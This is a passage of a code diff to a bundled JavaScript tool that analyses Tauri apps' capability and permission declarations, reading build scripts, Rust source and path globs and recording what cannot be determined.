+      }
+      const declared = this.#declared(chain, `the plugin ${code(name)}'s`);
+      plugins.set(name, { ...declared, default: this.#defaultOf(chain, name, declared.commands) });
+    }
+    return plugins;
+  }
+  /** `commands` and `permissions_path_pattern` of the app's manifest or a plugin's. */
+  #declared(chain, whose) {
+    const last2 = (name) => chain.findLast((call) => call.name === name);
+    for (const { at } of chain) this.#followed.add(at);
+    const [commands, pattern] = [last2("commands"), last2("permissions_path_pattern")];
+    return {
+      commands: commands === void 0 ? [] : this.#list(commands, `computes the list of ${whose} commands`),
+      permissionsPattern: pattern && this.#literal(pattern, `computes where ${whose} permissions are`)[0]?.name
+    };
+  }
+  /** Tauri only makes a default where the plugin has commands. */
+  #defaultOf(chain, plugin, commands) {
+    const call = chain.findLast(({ name }) => name === "default_permission");
+    if (call === void 0 || commands.length === 0) return void 0;
+    const text = this.#source.code.slice(call.inside.start, call.inside.end);
+    if (/\bAllowAllCommands\s*,?\s*$/.test(text))
+      return commands.map(({ name, at }) => ({ name: `allow-${name.replaceAll("_", "-")}`, at }));
+    const [allow2] = callsOf(this.#source, "Allow").filter(
+      ({ at }) => at >= call.inside.start && at < call.inside.end
+    );
+    const what2 = `computes the default permissions of the plugin ${code(plugin)}`;
+    if (allow2 !== void 0) return this.#list(allow2, what2);
+    this.#unread(call, what2);
+    return void 0;
+  }
+  /** The methods called on what a constructor makes. */
+  #chain({ inside }) {
+    return chainFrom(this.#source, inside.end + 1);
+  }
+  /** The literal before a plugin: `.plugin("auth", InlinedPlugin::new()…)`. */
+  #nameBefore(offset) {
+    const before = this.#source.code.slice(Math.max(0, offset - 400), offset);
+    const between = /"(\s*,\s*(?:\w+\s*::\s*)*)$/.exec(before)?.[1];
+    if (between === void 0) return void 0;
+    for (const { value, end } of this.#source.strings.values()) {
+      if (end === offset - between.length) return value;
+    }
+    return void 0;
+  }
+  #list(call, what2) {
+    const [list] = argumentsIn(this.#source, call.inside);
+    const names2 = list && literalsOf(this.#source, list);
+    if (names2 === void 0) {
+      this.#unread(call, what2);
+      return [];
+    }
+    return names2.map(({ value, start, end }) => ({ name: value, at: this.#place(start, end) }));
+  }
+  #literal(call, what2) {
+    const [argument] = argumentsIn(this.#source, call.inside);
+    const literal3 = argument && literalOf(this.#source, argument);
+    if (literal3 !== void 0) return [{ name: literal3.value, at: this.#place(literal3.start, literal3.end) }];
+    this.#unread(call, what2);
+    return [];
+  }
+  #unread({ at, inside }, what2) {
+    const message = `The build script ${what2}: it is never run here, so what it declares is not known. Write it as a list of texts.`;
+    this.#gaps.push(gapAt(this.#place(at, inside.start), "dynamic", message));
+  }
+};
+
 // src/readers/tauri-acl/files.ts
 function isCapabilityFile(path, app) {
-  const inside = below2(app.root, path);
-  return inside?.startsWith("capabilities/") === true && /\.(?:json5?|toml)$/.test(path) && !isInSchemas(path);
+  return below2(app.root, path)?.startsWith("capabilities/") === true && isCapabilityName(path);
+}
+function isCapabilityName(path) {
+  return /\.(?:json5?|toml)$/.test(path) && !isInSchemas(path);
 }
 function isAppPermissionFile(path, app) {
   const inside = below2(app.root, path);
@@ -48015,20 +48299,563 @@ function mayBeBuildScript(path, app) {
   return folderOf(path) === app.root && path.endsWith(".rs");
 }
 
-// src/readers/tauri-acl/active-capabilities.ts
-function activeCapabilities(project) {
+// src/language/automaton.ts
+var import_refa = __toESM(require_refa(), 1);
+var TooComplex = class extends Error {
+};
+var MAX_NODES = 1500;
+var MAX_SOURCE = 2e4;
+var MAX_CHARACTER = 1114111;
+function languageOf(source) {
+  return bounded(() => tabled(automatonOf(source)));
+}
+function sequenceOf(sources2, end) {
+  return bounded(() => {
+    const factory = new import_refa.NFA.LimitedNodeFactory(MAX_NODES);
+    const [word, ending] = [automatonOf(`[^${end}]*`), automatonOf(end)];
+    const whole = automatonOf("").copy(factory);
+    for (const source of sources2) {
+      whole.append(import_refa.NFA.fromIntersection(automatonOf(source), word, factory), factory);
+      whole.append(ending, factory);
+    }
+    return tabled(whole);
+  });
+}
+function joinedOf(pieces) {
+  return bounded(() => {
+    const factory = new import_refa.NFA.LimitedNodeFactory(MAX_NODES);
+    const whole = automatonOf("").copy(factory);
+    for (const { source, within: within3 } of pieces) {
+      whole.append(import_refa.NFA.fromIntersection(automatonOf(source), automatonOf(within3), factory), factory);
+    }
+    return tabled(whole);
+  });
+}
+function readable(make) {
+  try {
+    return make();
+  } catch (error2) {
+    if (error2 instanceof SyntaxError || error2 instanceof TooComplex) return void 0;
+    throw error2;
+  }
+}
+var NOTHING = languageOf("[]");
+var EVERYTHING = languageOf("[^]*");
+function accepts(language, word) {
+  let state = language.start;
+  for (const character of word) {
+    const code2 = character.codePointAt(0) ?? 0;
+    state = language.ways[state]?.find(({ min, max }) => min <= code2 && code2 <= max)?.to;
+    if (state === void 0) return false;
+  }
+  return language.accepting[state] === true;
+}
+function acceptsPlainly(source, text) {
+  return bounded(
+    () => automatonOf(source).test(Array.from(text, (character) => character.codePointAt(0) ?? 0))
+  );
+}
+function automatonOf(source) {
+  if (source.length > MAX_SOURCE) throw new TooComplex(`a pattern of ${source.length} characters`);
+  const parser = import_refa.JS.Parser.fromLiteral({ source, flags: "us" });
+  const { expression: expression2 } = parser.parse({ assertions: "throw", backreferences: "throw", maxNodes: MAX_NODES });
+  return import_refa.NFA.fromRegex(
+    expression2,
+    { maxCharacter: MAX_CHARACTER },
+    {},
+    new import_refa.NFA.LimitedNodeFactory(MAX_NODES)
+  );
+}
+function tabled(nfa) {
+  const dfa = import_refa.DFA.fromFA(nfa, new import_refa.DFA.LimitedNodeFactory(MAX_NODES));
+  dfa.minimize();
+  const nodes = [...dfa.nodes()];
+  const numbers = new Map(nodes.map((node, i) => [node, i]));
+  return {
+    start: numbers.get(dfa.initial) ?? 0,
+    accepting: nodes.map((node) => dfa.finals.has(node)),
+    ways: nodes.map(
+      (node) => [...node.out].map(([{ min, max }, target]) => ({ min, max, to: numbers.get(target) ?? 0 }))
+    )
+  };
+}
+function bounded(make) {
+  try {
+    return make();
+  } catch (error2) {
+    if (error2 instanceof import_refa.TooManyNodesError || error2 instanceof RangeError)
+      throw new TooComplex(error2.message);
+    if (error2 instanceof Error && /not supported/.test(error2.message)) throw new SyntaxError(error2.message);
+    throw error2;
+  }
+}
+
+// src/language/literal.ts
+function literal(text) {
+  return text.replace(
+    /[\\^$.*+?()[\]{}|/-]/g,
+    (character) => character === "-" ? "\\x2d" : `\\${character}`
+  );
+}
+
+// src/language/glob.ts
+var FREE_GLOB = { literalSeparator: false, literalDot: false };
+function tokeniseGlob(pattern) {
+  const characters = Array.from(pattern);
+  const tokens = [];
+  for (let i = 0; i < characters.length; ) {
+    const character = characters[i] ?? "";
+    if (character === "?") {
+      tokens.push({ kind: "any" });
+      i += 1;
+    } else if (character === "*") {
+      const stars = countStars(characters, i);
+      const after = characters[i + stars];
+      if (stars > 2) return void 0;
+      if (stars === 1) {
+        tokens.push({ kind: "sequence" });
+        i += 1;
+        continue;
+      }
+      const wholeComponent = (i === 0 || characters[i - 1] === "/") && (after === void 0 || after === "/");
+      if (!wholeComponent) return void 0;
+      const isLast = i + 3 >= characters.length;
+      if (isLast) tokens.push({ kind: "below" });
+      else if (tokens.at(-1)?.kind !== "components") tokens.push({ kind: "components" });
+      i += after === "/" ? 3 : 2;
+    } else if (character === "[") {
+      const parsed4 = parseClass(characters, i);
+      if (parsed4 === void 0) return void 0;
+      tokens.push(parsed4.token);
+      i = parsed4.next;
+    } else {
+      tokens.push({ kind: "character", text: character });
+      i += 1;
+    }
+  }
+  return tokens;
+}
+function globToRegex(pattern, options) {
+  const tokens = tokeniseGlob(pattern);
+  if (tokens === void 0) return void 0;
+  let rest = { atStart: "", inside: "" };
+  for (const token of tokens.toReversed()) {
+    rest = {
+      atStart: expression(token, options, true, rest),
+      inside: expression(token, options, false, rest)
+    };
+  }
+  return rest.atStart;
+}
+function expression(token, options, start, rest) {
+  const guarded = start && options.literalDot;
+  switch (token.kind) {
+    case "character":
+      return literal(token.text) + (token.text === "/" ? rest.atStart : rest.inside);
+    case "any":
+      return oneOf("", options, guarded) + rest.inside;
+    case "class":
+      return classExpression(token, options, guarded) + rest.inside;
+    case "sequence": {
+      const many = `${oneOf("", options, false)}*`;
+      if (!guarded) return many + (start ? rest.atStart : rest.inside);
+      const visible2 = oneOf("", options, true) + many;
+      if (rest.atStart === rest.inside) return `(?:${visible2})?${rest.inside}`;
+      return `(?:${rest.atStart}|${visible2}${rest.inside})`;
+    }
+    case "components":
+      return `(?:${component(options)}\\/)*${rest.atStart}`;
+    case "below":
+      return options.literalDot ? `(?:${component(options)}\\/)*${component(options)}` : "[^]*";
+  }
+}
+function component(options) {
+  return options.literalDot ? "(?:[^./][^/]*)?" : "[^/]*";
+}
+function oneOf(excluded, options, guarded) {
+  return `[^${excluded}${options.literalSeparator ? "/" : ""}${guarded ? "." : ""}]`;
+}
+function classExpression(token, options, guarded) {
+  const inside = token.ranges.map(
+    ([from, to]) => from === to ? literal(from) : `${literal(from)}-${literal(to)}`
+  );
+  if (token.negated) return oneOf(inside.join(""), options, guarded);
+  const allowed = token.ranges.flatMap((range2) => without(range2, options, guarded));
+  return `[${allowed.map(([from, to]) => `${literal(from)}-${literal(to)}`).join("")}]`;
+}
+function without(range2, options, guarded) {
+  const kept = [...options.literalSeparator ? ["/"] : [], ...guarded ? ["."] : []];
+  return kept.reduce(
+    (ranges, character) => ranges.flatMap((piece) => split(piece, character.codePointAt(0) ?? 0)),
+    [range2]
+  );
+}
+function split([from, to], hole) {
+  const [low, high] = [from.codePointAt(0) ?? 0, to.codePointAt(0) ?? 0];
+  if (hole < low || hole > high) return low <= high ? [[from, to]] : [];
+  const pieces = [];
+  if (low < hole) pieces.push([from, String.fromCodePoint(hole - 1)]);
+  if (hole < high) pieces.push([String.fromCodePoint(hole + 1), to]);
+  return pieces;
+}
+function countStars(characters, from) {
+  let count = 0;
+  while (characters[from + count] === "*") count += 1;
+  return count;
+}
+function parseClass(characters, open2) {
+  const negated = characters[open2 + 1] === "!";
+  const first = open2 + (negated ? 2 : 1);
+  const close = characters.indexOf("]", first + 1);
+  if (close < 0) return void 0;
+  const inside = characters.slice(first, close);
+  const ranges = [];
+  for (let i = 0; i < inside.length; ) {
+    const from = inside[i] ?? "";
+    const to = inside[i + 2];
+    if (inside[i + 1] === "-" && to !== void 0) {
+      if (from <= to) ranges.push([from, to]);
+      i += 3;
+    } else {
+      ranges.push([from, from]);
+      i += 1;
+    }
+  }
+  return { token: { kind: "class", negated, ranges }, next: close + 1 };
+}
+
+// src/language/remembered.ts
+var MOST = 4096;
+function remembered(answer) {
+  const known = /* @__PURE__ */ new Map();
+  return (question) => {
+    const before = known.get(question);
+    if (before !== void 0 || known.has(question)) return before;
+    if (known.size >= MOST) known.clear();
+    const now = answer(question);
+    known.set(question, now);
+    return now;
+  };
+}
+
+// src/readers/tauri-acl/path-pattern.ts
+function pathPattern(glob, root) {
+  const whole = joined(root, glob);
+  const language = whole === null ? null : languageOfPaths(whole);
+  return language === null ? void 0 : (path) => accepts(language, path);
+}
+var languageOfPaths = remembered((glob) => {
+  const regex2 = globToRegex(glob, { literalSeparator: true, literalDot: false });
+  return regex2 !== void 0 && readable(() => languageOf(regex2)) || null;
+});
+
+// src/readers/tauri-acl/capability-builder.ts
+function builtCapability(source, made, place) {
+  const reader = new Arguments(source, place);
+  const [identifier] = reader.texts(made);
+  if (identifier === void 0) return void 0;
+  const windows2 = [];
+  const webviews = [];
+  const remote = [];
+  const permissions = [];
+  let local = true;
+  let platforms = null;
+  for (const call of chainFrom(source, made.inside.end + 1)) {
+    switch (call.name) {
+      case "window":
+      case "windows":
+        windows2.push(...reader.texts(call));
+        break;
+      case "webview":
+      case "webviews":
+        webviews.push(...reader.texts(call));
+        break;
+      case "remote":
+        remote.push(...reader.texts(call));
+        break;
+      case "permission":
+        permissions.push(...reader.texts(call).map(({ text, at }) => ({ id: text, at, scope: null })));
+        break;
+      case "permission_scoped":
+        permissions.push(...reader.scoped(call));
+        break;
+      case "local":
+        local = reader.boolean(call);
+        break;
+      case "platform":
+      case "platforms":
+        platforms = (platforms ?? NO_PLATFORM) | reader.platforms(call);
+        break;
+      default:
+        return void 0;
+    }
+  }
+  if (!reader.isLiteral) return void 0;
+  return {
+    identifier: identifier.text,
+    at: identifier.at,
+    local,
+    remote,
+    windows: windows2,
+    webviews,
+    permissions,
+    platforms: platforms ?? EVERY_PLATFORM,
+    platformsAt: null
+  };
+}
+var Arguments = class {
+  isLiteral = true;
+  #source;
+  #place;
+  constructor(source, place) {
+    this.#source = source;
+    this.#place = place;
+  }
+  /** One text, or a list of them. */
+  texts({ inside }) {
+    const given = argumentsIn(this.#source, inside);
+    const [only] = given;
+    if (only === void 0 || given.length > 1) return this.#computed([]);
+    const one = literalOf(this.#source, only);
+    const many = one === void 0 ? literalsOf(this.#source, only) : [one];
+    return many?.map((literal3) => this.#pattern(literal3)) ?? this.#computed([]);
+  }
+  boolean({ inside }) {
+    const text = this.#text(inside);
+    return text === "false" ? false : text === "true" || this.#computed(true);
+  }
+  platforms({ inside }) {
+    const named2 = [...this.#text(inside).matchAll(/\bTarget\s*::\s*(\w+)/g)].map(([, name]) => name);
+    const known = named2.map((name) => PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()));
+    return known.length > 0 && known.every((each) => each !== void 0) ? platformSet(...known) : this.#computed(EVERY_PLATFORM);
+  }
+  /** A permission with lists of texts for its scope: `permission_scoped("fs:scope", vec!["/a"], vec![])`. */
+  scoped({ inside }) {
+    const [id, allow2, deny] = argumentsIn(this.#source, inside);
+    const name = id && literalOf(this.#source, id);
+    const scope = { allow: this.#entries(allow2), deny: this.#entries(deny) };
+    if (name === void 0) return this.#computed([]);
+    return [{ id: name.value, at: this.#pattern(name).at, scope }];
+  }
+  #entries(range2) {
+    const texts = range2 && literalsOf(this.#source, range2);
+    return texts?.map((literal3) => ({ value: literal3.value, at: this.#pattern(literal3).at })) ?? this.#computed([]);
+  }
+  #pattern({ value, start, end }) {
+    return { text: value, at: this.#place(start, end) };
+  }
+  #text({ start, end }) {
+    return this.#source.code.slice(start, end).trim();
+  }
+  #computed(otherwise) {
+    this.isLiteral = false;
+    return otherwise;
+  }
+};
+
+// src/readers/tauri-acl/rust-capabilities.ts
+function isEntryPoint(path, root) {
+  const inside = below2(root, path);
+  return inside === "src/main.rs" || inside === "src/lib.rs";
+}
+function isRustOfApp(path, root) {
+  return path.endsWith(".rs") && below2(root, path)?.startsWith("src/") === true;
+}
+function rustCapabilities(project) {
+  const { root } = project.location;
+  const found2 = [...project.files.values()].filter(({ path }) => isRustOfApp(path, root)).map((file2) => new RustFile(file2, root).read());
+  return {
+    atBuild: found2.flatMap(({ atBuild }) => atBuild),
+    atRunTime: found2.flatMap(({ atRunTime }) => atRunTime),
+    capabilities: found2.flatMap(({ capabilities }) => capabilities),
+    gaps: found2.flatMap(({ gaps: gaps2 }) => gaps2)
+  };
+}
+var RustFile = class {
+  #file;
+  #root;
+  #source;
+  #place;
+  #atBuild = [];
+  #atRunTime = [];
+  #capabilities = [];
+  #gaps = [];
+  constructor(file2, root) {
+    this.#file = file2;
+    this.#root = root;
+    this.#source = rustSource(file2);
+    this.#place = placesIn(file2);
+  }
+  read() {
+    for (const call of callsOf(this.#source, "(?:generate_context|tauri_build_context)")) this.#context(call);
+    for (const call of callsOf(this.#source, "add_capability")) this.#added(call);
+    return {
+      atBuild: this.#atBuild,
+      atRunTime: this.#atRunTime,
+      capabilities: this.#capabilities,
+      gaps: this.#gaps
+    };
+  }
+  /** `generate_context!(capabilities = ["a.json"])`: the macro takes nothing but literals. */
+  #context({ inside }) {
+    for (const argument of argumentsIn(this.#source, inside)) {
+      const text = this.#source.code.slice(argument.start, argument.end);
+      const named2 = /^capabilities\s*=\s*/.exec(text);
+      if (named2 === null) continue;
+      const list = { start: argument.start + named2[0].length, end: argument.end };
+      for (const literal3 of literalsOf(this.#source, list) ?? [])
+        this.#atBuild.push(this.#named(literal3, this.#root));
+    }
+  }
+  #added(call) {
+    const [argument] = argumentsIn(this.#source, call.inside);
+    if (argument === void 0 || this.#isDefinition(call)) return;
+    const included = this.#insideOf(argument, "include_str");
+    const literal3 = literalOf(this.#source, included ?? argument);
+    if (literal3 !== void 0) {
+      if (included !== void 0) this.#atRunTime.push(this.#named(literal3, folderOf(this.#file.path)));
+      else this.#written(literal3);
+      return;
+    }
+    const [made] = callsOf(this.#source, "CapabilityBuilder::new").filter(
+      ({ at }) => at >= argument.start && at < argument.end
+    );
+    const built = made && builtCapability(this.#source, made, this.#place);
+    if (built !== void 0) this.#capabilities.push(built);
+    else this.#computed(call);
+  }
+  /** `fn add_capability(&self, …)` declares, and calls nothing. */
+  #isDefinition({ at }) {
+    return /\bfn\s+$/.test(this.#source.code.slice(Math.max(0, at - 40), at));
+  }
+  #insideOf(argument, macro) {
+    const [call] = callsOf(this.#source, macro).filter(({ at }) => at >= argument.start && at < argument.end);
+    return call && argumentsIn(this.#source, call.inside)[0];
+  }
+  #named({ value, start, end }, folder) {
+    return { path: joined(folder, value), name: value, at: this.#place(start, end) };
+  }
+  /** A capability in the source itself: JSON, or else TOML. It is parsed where it stands, so that its lines are those of the file. */
+  #written({ value, start, end }) {
+    const at = this.#place(start, end);
+    const file2 = { ...this.#file, text: "\n".repeat(at.line - 1) + value };
+    const json = parseJson(file2, "json");
+    const parsed4 = json.ok ? json : parseToml(file2);
+    if (!parsed4.ok) {
+      const message = `The capability that this line adds can't be read: ${parsed4.message}`;
+      this.#gaps.push(gapAt(at, "unparsed", message));
+      return;
+    }
+    const read2 = readCapabilityFile(parsed4.value);
+    this.#capabilities.push(...read2.capabilities);
+    this.#gaps.push(...read2.gaps);
+  }
+  /** What it adds may depend on anything. Where base has the very same file, it added the same. */
+  #computed({ at, inside }) {
+    const message = `${code("add_capability")} is called with a capability that is computed, so what it grants is not known. Write it in a file, and add it with \`include_str!\`.`;
+    const gap = gapAt(this.#place(at, inside.start), "dynamic", message);
+    this.#gaps.push({ ...gap, rests: `${this.#file.path} ${this.#file.id}` });
+  }
+};
+
+// src/readers/tauri-acl/own-files.ts
+function ownFiles(project, script) {
   const gaps2 = [];
-  const files = capabilityFiles(project, gaps2);
+  const all = [...project.files.values()].filter(({ path }) => isPermissionName(path));
+  const standard = all.filter(({ path }) => isAppPermissionFile(path, project.location));
+  const within3 = (folder) => ({ path }) => below2(inFolder(project.location.root, folder), path) !== void 0;
+  const named2 = (pattern) => {
+    const is = pathPattern(pattern, project.location.root);
+    if (is === void 0) gaps2.push(lostPattern(project, pattern));
+    return all.filter(({ path }) => is?.(path) === true);
+  };
+  const inlined = /* @__PURE__ */ new Map();
+  for (const [name, { permissionsPattern: permissionsPattern2 }] of script.plugins) {
+    inlined.set(
+      name,
+      permissionsPattern2 === void 0 ? standard.filter(within3(`permissions/${name}`)) : named2(permissionsPattern2)
+    );
+  }
+  const { commands, permissionsPattern } = script.app;
+  if (permissionsPattern !== void 0) {
+    const generated = commands.length === 0 || isTauri3(project) ? [] : standard.filter(within3("permissions/autogenerated"));
+    return { app: [...generated, ...named2(permissionsPattern)], inlined, gaps: gaps2 };
+  }
+  const others = [...script.plugins.keys(), ...isTauri3(project) ? ["autogenerated"] : []];
+  const isOther = (file2) => others.some((name) => within3(`permissions/${name}`)(file2));
+  return { app: standard.filter((file2) => !isOther(file2)), inlined, gaps: gaps2 };
+}
+function capabilityFiles(project, { capabilitiesPattern }) {
+  const all = [...project.files.values()].filter(
+    ({ path }) => isCapabilityName(path) && (!path.endsWith(".json5") || project.json5)
+  );
+  if (capabilitiesPattern === void 0)
+    return { files: all.filter(({ path }) => isCapabilityFile(path, project.location)), gaps: [] };
+  const is = pathPattern(capabilitiesPattern, project.location.root);
+  return is === void 0 ? { files: [], gaps: [lostPattern(project, capabilitiesPattern)] } : { files: all.filter(({ path }) => is(path)), gaps: [] };
+}
+function namedInRust(project, script) {
+  const { root } = project.location;
+  const rust = rustCapabilities(project);
+  const patterns2 = [
+    script.capabilitiesPattern,
+    script.app.permissionsPattern,
+    ...[...script.plugins.values()].map(({ permissionsPattern }) => permissionsPattern)
+  ].flatMap((pattern) => pattern === void 0 ? [] : pathPattern(pattern, root) ?? []);
+  const files = new Set(
+    [...script.capabilityFiles, ...rust.atBuild, ...rust.atRunTime].map(({ path }) => path)
+  );
+  const scriptPath = buildScriptPath(project);
+  return (path) => path === scriptPath || files.has(path) || isCapabilityName(path) && patterns2.some((is) => is(path));
+}
+function lostPattern(project, pattern) {
+  const message = `The build script looks for files at ${code(pattern)}, which is no pattern that stays in this repository: they were not read.`;
+  return gapAt(topOf(buildScriptPath(project) ?? project.location.config), "dynamic", message);
+}
+function buildScriptOf(project) {
+  const path = buildScriptPath(project);
+  const file2 = path === null ? void 0 : project.files.get(path);
+  const named2 = pick(project.manifest, "package", "build");
+  const isPlain2 = named2?.kind !== "string" || named2.value === "build.rs";
+  if (file2 !== void 0 || isPlain2) return readBuildScript(file2, project.location.root);
+  const message = `The app's build script is ${code(named2.value)}, which is not here: what it declares of commands and capabilities is not known.`;
+  return { ...NO_SCRIPT, gaps: [gapAt(named2.at, "dynamic", message)] };
+}
+function buildScriptPath({ manifest: manifest2, location: location2 }) {
+  const named2 = pick(manifest2, "package", "build");
+  if (named2?.kind === "boolean" && !named2.value) return null;
+  return joined(location2.root, asString(named2) ?? "build.rs");
+}
+
+// src/readers/tauri-acl/active-capabilities.ts
+function activeCapabilities(project, script) {
+  const found2 = capabilityFiles(project, script);
+  const gaps2 = [...found2.gaps];
+  const files = capabilitiesIn(found2.files, gaps2);
+  const added = rustCapabilities(project);
+  gaps2.push(...added.gaps);
+  const named2 = capabilitiesIn(
+    namedFiles(project, [...script.capabilityFiles, ...added.atBuild], gaps2),
+    gaps2
+  );
+  const atRunTime = capabilitiesIn(namedFiles(project, added.atRunTime, gaps2), gaps2);
   const byIdentity = /* @__PURE__ */ new Map();
   const inlineRead = /* @__PURE__ */ new Map();
   const complained = /* @__PURE__ */ new Set();
   for (const platform2 of PLATFORMS) {
-    for (const capability of enabledOn(project.config(platform2))) {
+    const enabled = [...enabledOn(project.config(platform2))].filter(
+      ({ identifier }) => !named2.has(identifier)
+    );
+    for (const capability of [...enabled, ...named2.values()]) {
       byIdentity.set(capability, (byIdentity.get(capability) ?? NO_PLATFORM) | platformSet(platform2));
     }
   }
-  const active = [...byIdentity].map(([capability, platforms]) => ({ capability, platforms: platforms & capability.platforms })).filter(({ platforms }) => platforms !== NO_PLATFORM).sort((a, b) => compareBytes(a.capability.identifier, b.capability.identifier));
-  return { active, gaps: gaps2 };
+  const sorted = [...byIdentity].map(([capability, platforms]) => ({ capability, platforms: platforms & capability.platforms })).filter(({ platforms }) => platforms !== NO_PLATFORM).sort((a, b) => compareBytes(a.capability.identifier, b.capability.identifier));
+  const last2 = [...atRunTime.values(), ...added.capabilities].map((capability) => ({
+    capability,
+    platforms: capability.platforms
+  }));
+  return { active: [...sorted, ...last2], gaps: gaps2 };
   function enabledOn(config) {
     const listed = pick(config, "app", "security", "capabilities");
     if (listed?.kind !== "array" || listed.items.length === 0) return files.values();
@@ -48059,11 +48886,18 @@ function activeCapabilities(project) {
   }
 }
 var MOST_CAPABILITIES = 2e3;
-function capabilityFiles(project, gaps2) {
+function namedFiles(project, named2, gaps2) {
+  return named2.flatMap(({ path, name, at }) => {
+    const file2 = path === null ? void 0 : project.files.get(path);
+    if (file2 !== void 0) return [file2];
+    const message = `The capability ${code(name)}, which this line adds, is no file of this repository: what it grants is not known.`;
+    gaps2.push(gapAt(at, "unreadable", message));
+    return [];
+  });
+}
+function capabilitiesIn(files, gaps2) {
   const byIdentifier = /* @__PURE__ */ new Map();
-  for (const file2 of project.files.values()) {
-    if (!isCapabilityFile(file2.path, project.location)) continue;
-    if (file2.path.endsWith(".json5") && !project.json5) continue;
+  for (const file2 of files) {
     const parsed4 = parseFile(file2);
     if (!parsed4.ok) {
       gaps2.push(gapAt(parsed4.at, "unparsed", `This capability file can't be read: ${parsed4.message}`));
@@ -48102,5876 +48936,1290 @@ var import_semver4 = __toESM(require_semver2(), 1);
 
 // src/facts/catalogue/permissions.json
 var permissions_default = {
-  manifests: [
-    {
-      c: ["app_hide", "app_show", "name", "tauri_version", "version"],
-      def: ["allow-version", "allow-name", "allow-tauri-version"]
-    },
-    {
-      c: ["app_hide", "app_show", "default_window_icon", "name", "tauri_version", "version"],
-      def: ["allow-version", "allow-name", "allow-tauri-version"]
-    },
-    { c: ["init_auth", "register", "sign", "verify_registration", "verify_signature"] },
-    { c: ["disable", "enable", "is_enabled"] },
-    {
-      c: ["disable", "enable", "is_enabled"],
-      def: ["allow-enable", "allow-disable", "allow-is-enabled"]
-    },
-    { c: ["cancel", "check_permissions", "open_app_settings", "request_permissions", "scan", "vibrate"] },
-    {
-      c: ["cancel", "check_permissions", "open_app_settings", "request_permissions", "scan", "vibrate"],
-      def: [
-        "allow-cancel",
-        "allow-check-permissions",
-        "allow-open-app-settings",
-        "allow-request-permissions",
-        "allow-scan",
-        "allow-vibrate"
-      ]
-    },
-    { c: ["authenticate", "status"] },
-    { c: ["authenticate", "status"], def: ["allow-authenticate", "allow-status"] },
-    { c: ["cli_matches"], def: ["allow-cli-matches"] },
-    { c: ["read", "write"] },
-    { c: ["clear", "read_image", "read_text", "write_html", "write_image", "write_text"], def: [] },
-    { c: ["clear", "read_image", "read_text", "write_html", "write_image", "write_text"] },
-    {
-      c: [],
-      def: [
-        "core:path:default",
-        "core:event:default",
-        "core:window:default",
-        "core:webview:default",
-        "core:app:default",
-        "core:image:default",
-        "core:resources:default",
-        "core:menu:default",
-        "core:tray:default"
-      ]
-    },
-    {
-      c: [
-        "app_hide",
-        "app_show",
-        "default_window_icon",
-        "name",
-        "set_app_theme",
-        "tauri_version",
-        "version"
-      ],
-      def: ["allow-version", "allow-name", "allow-tauri-version"]
-    },
-    {
-      c: [
-        "app_hide",
-        "app_show",
-        "default_window_icon",
-        "fetch_data_store_identifiers",
-        "identifier",
-        "name",
-        "remove_data_store",
-        "set_app_theme",
-        "tauri_version",
-        "version"
-      ],
-      def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier"]
-    },
-    {
-      c: [
-        "app_hide",
-        "app_show",
-        "default_window_icon",
-        "fetch_data_store_identifiers",
-        "identifier",
-        "name",
-        "remove_data_store",
-        "set_app_theme",
-        "set_dock_visibility",
-        "tauri_version",
-        "version"
-      ],
-      def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier"]
-    },
-    {
-      c: [
-        "app_hide",
-        "app_show",
-        "bundle_type",
-        "default_window_icon",
-        "fetch_data_store_identifiers",
-        "identifier",
-        "name",
-        "remove_data_store",
-        "set_app_theme",
-        "set_dock_visibility",
-        "tauri_version",
-        "version"
-      ],
-      def: ["allow-version", "allow-name", "allow-tauri-version", "allow-identifier", "allow-bundle-type"]
-    },
-    {
-      c: [
-        "app_hide",
-        "app_show",
-        "bundle_type",
-        "default_window_icon",
-        "fetch_data_store_identifiers",
-        "identifier",
-        "name",
-        "register_listener",
-        "remove_data_store",
-        "remove_listener",
-        "set_app_theme",
-        "set_dock_visibility",
-        "tauri_version",
-        "version"
-      ],
-      def: [
-        "allow-version",
-        "allow-name",
-        "allow-tauri-version",
-        "allow-identifier",
-        "allow-bundle-type",
-        "allow-register-listener",
-        "allow-remove-listener"
-      ]
-    },
-    {
-      c: [
-        "app_hide",
-        "app_show",
-        "bundle_type",
-        "default_window_icon",
-        "fetch_data_store_identifiers",
-        "identifier",
-        "name",
-        "register_listener",
-        "remove_data_store",
-        "remove_listener",
-        "set_app_theme",
-        "set_dock_visibility",
-        "supports_multiple_windows",
-        "tauri_version",
-        "version"
-      ],
-      def: [
-        "allow-version",
-        "allow-name",
-        "allow-tauri-version",
-        "allow-identifier",
-        "allow-bundle-type",
-        "allow-register-listener",
-        "allow-remove-listener",
-        "allow-supports-multiple-windows"
-      ]
-    },
-    {
-      c: ["emit", "emit_to", "listen", "unlisten"],
-      def: ["allow-listen", "allow-unlisten", "allow-emit", "allow-emit-to"]
-    },
-    {
-      c: ["from_bytes", "from_path", "new", "rgba", "size"],
-      def: ["allow-new", "allow-from-bytes", "allow-from-path", "allow-rgba", "allow-size"]
-    },
-    {
-      c: [
-        "append",
-        "create_default",
-        "get",
-        "insert",
-        "is_checked",
-        "is_enabled",
-        "items",
-        "new",
-        "popup",
-        "prepend",
-        "remove",
-        "remove_at",
-        "set_accelerator",
-        "set_as_app_menu",
-        "set_as_help_menu_for_nsapp",
-        "set_as_window_menu",
-        "set_as_windows_menu_for_nsapp",
-        "set_checked",
-        "set_enabled",
-        "set_icon",
-        "set_text",
-        "text"
-      ],
-      def: [
-        "allow-new",
-        "allow-append",
-        "allow-prepend",
-        "allow-insert",
-        "allow-remove",
-        "allow-remove-at",
-        "allow-items",
-        "allow-get",
-        "allow-popup",
-        "allow-create-default",
-        "allow-set-as-app-menu",
-        "allow-set-as-window-menu",
-        "allow-text",
-        "allow-set-text",
-        "allow-is-enabled",
-        "allow-set-enabled",
-        "allow-set-accelerator",
-        "allow-set-as-windows-menu-for-nsapp",
-        "allow-set-as-help-menu-for-nsapp",
-        "allow-is-checked",
-        "allow-set-checked",
-        "allow-set-icon"
-      ]
-    },
-    {
-      c: [
-        "basename",
-        "dirname",
-        "extname",
-        "is_absolute",
-        "join",
-        "normalize",
-        "resolve",
-        "resolve_directory"
-      ],
-      def: [
-        "allow-resolve-directory",
-        "allow-resolve",
-        "allow-normalize",
-        "allow-join",
-        "allow-dirname",
-        "allow-extname",
-        "allow-basename",
-        "allow-is-absolute"
-      ]
-    },
-    { c: ["close"], def: ["allow-close"] },
-    {
